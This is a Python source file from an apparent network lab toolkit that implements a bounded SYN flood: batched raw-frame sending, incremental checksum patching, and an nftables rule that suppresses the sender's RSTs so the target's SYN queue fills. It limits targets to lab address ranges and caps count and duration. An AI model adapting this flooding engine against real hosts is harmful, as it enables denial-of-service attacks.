"""A bounded SYN flood from one pre-built frame: per packet only the source port, the ISN and the TCP
checksum change, patched with ``struct`` and sent in batches with one ``sendmmsg(2)`` per batch on an
AF_PACKET socket that bypasses the qdisc layer.

The TCP checksum is updated, not recomputed: with 2**16 ≡ 1 (mod 0xffff) the one's-complement sum
(RFC 1071) of a field is congruent to the field read as an integer, so the new checksum is
``(c0 - sport - seq) mod 0xffff`` where c0 is the template's checksum with both fields zero
(the same arithmetic as rawtcp.wire.packet, which is checked byte-for-byte against scapy).

The flooding side's kernel would answer every SYN-ACK with a RST (no socket owns those ports) and so
empty the target's SYN queue, which the SYN-flood lab wants filled: one nftables rule in a table of
this process's own (``inet rawtcp_flood_<pid>``) drops those RSTs for the flood's source-port range
to the target only, and is removed afterwards; tables of dead processes are reaped on the next flood.
Floods only go to the lab's addresses, the benchmarking range 198.18.0.0/15 (RFC 2544) or the IPv6
documentation prefix 2001:db8::/32 (RFC 3849), and are bounded in count and time, with hard caps.
Over IPv6 the frame is the same but for the 40-byte IP header (RFC 8200 §3), which moves the TCP
fields, and has no header checksum; the TCP checksum covers the IPv6 pseudo-header (RFC 8200 §8.1).
"""

from __future__ import annotations

import contextlib
import ctypes
import ipaddress
import os
import random
import re
import shutil
import socket
import struct
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from rawtcp.core.segment import Flags, Option, Segment
from rawtcp.craft.errors import CraftError
from rawtcp.proc import pid_alive

LAB_NET = ipaddress.ip_network("198.18.0.0/15")  # RFC 2544 benchmarking range: the lab's IPv4 addresses
LAB_NET6 = ipaddress.ip_network("2001:db8::/32")  # RFC 3849 documentation prefix: the lab's IPv6 addresses
MAX_COUNT = 50_000_000
MAX_DURATION = 300.0
SPORT_RANGE = (1024, 65535)
BATCH = 256
LINUX_SYN_OPTIONS: tuple[Option, ...] = (("MSS", 1460), ("SAckOK", b""), ("Timestamp", (0, 0)),
                                          ("NOP", None), ("WScale", 7))

# Offsets in an Ethernet + IPv4 (no options) + TCP frame; IPv6's fixed header is 20 bytes longer.
_OFF_SPORT = 14 + 20
_OFF_TCP_SUM = 14 + 20 + 16
_IPV6_EXTRA = 40 - 20
_PORTS_SEQ = struct.Struct("!HHI")  # sport, dport, seq
_SUM = struct.Struct("!H")
_M = 0xFFFF


# ---------------------------------------------------------------------------------------------
# the template


class SynTemplate:
    """One SYN frame, patched in place per packet: ``patch(buf, offset, sport, seq)``."""

    def __init__(self, src_ip: str, dst_ip: str, src_mac: bytes, dst_mac: bytes, dport: int,
                 window: int = 64240, options: tuple[Option, ...] = LINUX_SYN_OPTIONS, ttl: int = 64,
                 ip_id: int = 0) -> None:
        from rawtcp.wire.packet import FrameBuilder

        self.dport = dport
        builder = FrameBuilder(src_ip, dst_ip, src_mac, dst_mac, ttl=ttl, df=True)
        self.version = builder.version
        # ip_id does not exist in IPv6 (RFC 8200 §4.5: only in a fragment header)
        self.frame = builder.frame(Segment(0, dport, 0, 0, Flags.SYN, window, options),
                                   ip_id=ip_id if builder.version == 4 else None)
        self.size = len(self.frame)
        shift = _IPV6_EXTRA if builder.version == 6 else 0
        self._off_sport = _OFF_SPORT + shift
        self._off_sum = _OFF_TCP_SUM + shift
        self._c0 = int.from_bytes(self.frame[self._off_sum:self._off_sum + 2], "big")

    def checksum(self, sport: int, seq: int) -> int:
        return (self._c0 - sport - seq) % _M

    def patch(self, buf: bytearray | memoryview, offset: int, sport: int, seq: int) -> None:
        _PORTS_SEQ.pack_into(buf, offset + self._off_sport, sport, self.dport, seq)
        _SUM.pack_into(buf, offset + self._off_sum, (self._c0 - sport - seq) % _M)

    def build(self, sport: int, seq: int) -> bytes:
        buf = bytearray(self.frame)
        self.patch(buf, 0, sport, seq)
        return bytes(buf)


# ---------------------------------------------------------------------------------------------
# sendmmsg through ctypes


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class _MsgHdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(_IoVec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class _MMsgHdr(ctypes.Structure):
    _fields_ = [("hdr", _MsgHdr), ("len", ctypes.c_uint)]


class BatchSender:
    """``batch`` frames of ``size`` bytes in one buffer; ``send(n)`` transmits the first n with sendmmsg."""

    def __init__(self, fd: int, size: int, batch: int) -> None:
        self.fd, self.size, self.batch = fd, size, batch
        self.buf = bytearray(size * batch)
        self._cbuf = (ctypes.c_char * len(self.buf)).from_buffer(self.buf)
        base = ctypes.addressof(self._cbuf)
        self._iov = (_IoVec * batch)()
        self._msgs = (_MMsgHdr * batch)()
        for i in range(batch):
            self._iov[i].base = base + i * size
            self._iov[i].len = size
            self._msgs[i].hdr.iov = ctypes.pointer(self._iov[i])
            self._msgs[i].hdr.iovlen = 1
        libc = ctypes.CDLL(None, use_errno=True)
        self._sendmmsg = libc.sendmmsg
        self._sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
        self._sendmmsg.restype = ctypes.c_int
        self._msgs_addr = ctypes.addressof(self._msgs)
        self._entry = ctypes.sizeof(_MMsgHdr)

    def fill_from(self, template: bytes) -> None:
        for i in range(self.batch):
            self.buf[i * self.size:(i + 1) * self.size] = template

    def send(self, n: int) -> int:
        """Send frames 0..n-1; returns how many left (a full device queue is retried, bounded)."""
        done, stalls = 0, 0
        while done < n:
            rc = self._sendmmsg(self.fd, self._msgs_addr + done * self._entry, n - done, 0)
            if rc > 0:
                done += rc
                continue
            err = ctypes.get_errno()
            if err in (105, 11, 4) and stalls < 1000:  # ENOBUFS, EAGAIN, EINTR: the queue is full
                stalls += 1
                time.sleep(0.0001)
                continue
            raise CraftError(f"sendmmsg failed: {os.strerror(err)}", 1)
        return done

    def close(self) -> None:
        del self._cbuf


# ---------------------------------------------------------------------------------------------
# RST suppression for a port range: one rule in a table of our own


def guard_table(pid: int | None = None) -> str:
    return f"rawtcp_flood_{os.getpid() if pid is None else pid}"


def _nft(script: str) -> subprocess.CompletedProcess[str]:
    exe = shutil.which("nft")
    if exe is None:
        raise CraftError("nftables is missing: apt-get install nftables", 8)
    return subprocess.run([exe, "-f", "-"], input=script, capture_output=True, text=True, timeout=20)


def reap_flood_tables() -> list[str]:
    """Delete ``rawtcp_flood_<pid>`` tables (in this namespace) whose process is dead."""
    exe = shutil.which("nft")
    if exe is None:
        return []
    out = subprocess.run([exe, "list", "tables"], capture_output=True, text=True, timeout=20).stdout
    removed = []
    for pid_text in re.findall(r"table inet rawtcp_flood_(\d+)", out):
        pid = int(pid_text)
        if pid_alive(pid):
            continue
        if _nft(f"delete table inet {guard_table(pid)}\n").returncode == 0:
            removed.append(f"nftables table inet {guard_table(pid)} left by dead process {pid}")
    return removed


@contextlib.contextmanager
def suppress_rsts(src_ip: str, dst_ip: str, dport: int, sports: tuple[int, int] = SPORT_RANGE):
    """Drop this namespace's RSTs from src_ip:sports to dst_ip:dport while the block runs."""
    table = guard_table()
    ip = "ip6" if ipaddress.ip_address(dst_ip).version == 6 else "ip"  # the inet table sees both families
    script = (f"table inet {table} {{\n chain output {{\n  type filter hook output priority 0; policy accept;\n"
              f"  {ip} saddr {src_ip} {ip} daddr {dst_ip} tcp dport {dport} tcp sport {sports[0]}-{sports[1]} "
              f"tcp flags & rst == rst counter drop\n }}\n}}\n")
    proc = _nft(script)
    if proc.returncode != 0:
        msg = (proc.stderr.strip().splitlines() or ["?"])[0]
        if "Operation not permitted" in msg:
            raise CraftError("RST suppression needs root (CAP_NET_ADMIN): run it with sudo", 6)
        raise CraftError(f"adding the flood's RST-suppression rule failed: {msg}", 1)
    try:
        yield table
    finally:
        _nft(f"delete table inet {table}\n")


# ---------------------------------------------------------------------------------------------
# the flood


@dataclass
class FloodResult:
    sent: int
    seconds: float
    src_ip: str
    dst_ip: str
    dport: int
    ifname: str
    stopped_by: str  # "count", "duration" or "cap"

    @property
    def pps(self) -> float:
        return self.sent / self.seconds if self.seconds > 0 else 0.0

    def to_json(self) -> dict[str, Any]:
        return {"type": "flood", "sent": self.sent, "seconds": round(self.seconds, 4), "pps": round(self.pps),
                "src": self.src_ip, "dst": self.dst_ip, "dport": self.dport, "iface": self.ifname,
                "stopped_by": self.stopped_by}


def check_target(dst_ip: str) -> None:
    try:
        addr = ipaddress.ip_address(dst_ip)
    except ValueError:
        raise CraftError(f"flood refuses {dst_ip!r}: not an IP address") from None
    net = LAB_NET6 if addr.version == 6 else LAB_NET
    if addr not in net:
        raise CraftError(f"flood refuses {dst_ip}: it only sends to lab addresses in {LAB_NET} or {LAB_NET6} "
                         "(namespaces rawtcp made)")


def check_bounds(count: int | None, duration: float | None, rate: float | None) -> None:
    if count is None and duration is None:
        raise CraftError("a flood needs a bound: give --count and/or --duration")
    if count is not None and not 1 <= count <= MAX_COUNT:
        raise CraftError(f"--count {count} outside 1-{MAX_COUNT}")
    if duration is not None and not 0 < duration <= MAX_DURATION:
        raise CraftError(f"--duration {duration} outside (0, {MAX_DURATION:.0f}] s")
    if rate is not None and rate <= 0:
        raise CraftError("--rate must be positive")


def flood_syn(dst_ip: str, dport: int, *, count: int | None = None, duration: float | None = None,
              rate: float | None = None, iface: str | None = None, batch: int = BATCH,
              suppress: bool = True, rng: random.Random | None = None,
              on_start: Callable[[dict[str, Any]], None] | None = None,
              clock: Callable[[], float] = time.perf_counter) -> FloodResult:
    """SYNs to dst_ip:dport from random source ports with random ISNs, in the calling thread's namespace,
    until ``count`` packets or ``duration`` seconds (whichever first; MAX_DURATION always applies)."""
    from rawtcp.wire import route
    from rawtcp.wire.link import PACKET_QDISC_BYPASS, SOL_PACKET

    check_target(dst_ip)
    check_bounds(count, duration, rate)
    rng = rng or random.Random(int.from_bytes(os.urandom(8), "big"))
    path = route.resolve(dst_ip, iface)
    if path.src_mac is None or path.dst_mac is None:
        raise CraftError(f"{path.ifname} has no Ethernet header: the flood needs an Ethernet interface")
    tmpl = SynTemplate(path.src_ip, dst_ip, path.src_mac, path.dst_mac, dport)
    limit = min(count if count is not None else MAX_COUNT, MAX_COUNT)
    span = min(duration if duration is not None else MAX_DURATION, MAX_DURATION)
    if rate is not None:
        batch = max(1, min(batch, int(rate / 1000) or 1))  # about a batch per millisecond at most
    try:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)  # protocol 0: receives nothing
    except PermissionError:
        raise CraftError("a packet socket needs root (CAP_NET_RAW): run it with sudo", 6) from None
    with contextlib.ExitStack() as stack:
        stack.callback(sock.close)
        with contextlib.suppress(OSError):
            sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)  # veth needs no queueing discipline
        sock.bind((path.ifname, 0))
        if suppress:
            reap_flood_tables()
            stack.enter_context(suppress_rsts(path.src_ip, dst_ip, dport))
        sender = BatchSender(sock.fileno(), tmpl.size, batch)
        stack.callback(sender.close)
        sender.fill_from(tmpl.frame)
        if on_start is not None:
            on_start({"src": path.src_ip, "dst": dst_ip, "dport": dport, "iface": path.ifname, "count": count,
                      "duration": duration, "rate": rate})
        buf, size, patch = sender.buf, tmpl.size, tmpl.patch
        getrandbits = rng.getrandbits
        lo, width = SPORT_RANGE[0], SPORT_RANGE[1] - SPORT_RANGE[0] + 1
        offsets = range(0, size * batch, size)
        sent = 0
        t0 = clock()
        end = t0 + span
        stopped_by = "count" if count is not None and count <= MAX_COUNT else "cap"
        while sent < limit:
            now = clock()
            if now >= end:
                stopped_by = "duration" if duration is not None and duration <= MAX_DURATION else "cap"
                break
            if rate is not None:
                due = t0 + sent / rate
                if due > now:
                    time.sleep(min(due - now, end - now))
                    continue
            n = min(batch, limit - sent)
            for off in offsets[:n]:
                r = getrandbits(48)
                patch(buf, off, lo + (r >> 32) % width, r & 0xFFFFFFFF)
            sent += sender.send(n)
        elapsed = clock() - t0
    return FloodResult(sent, elapsed, path.src_ip, dst_ip, dport, path.ifname, stopped_by)
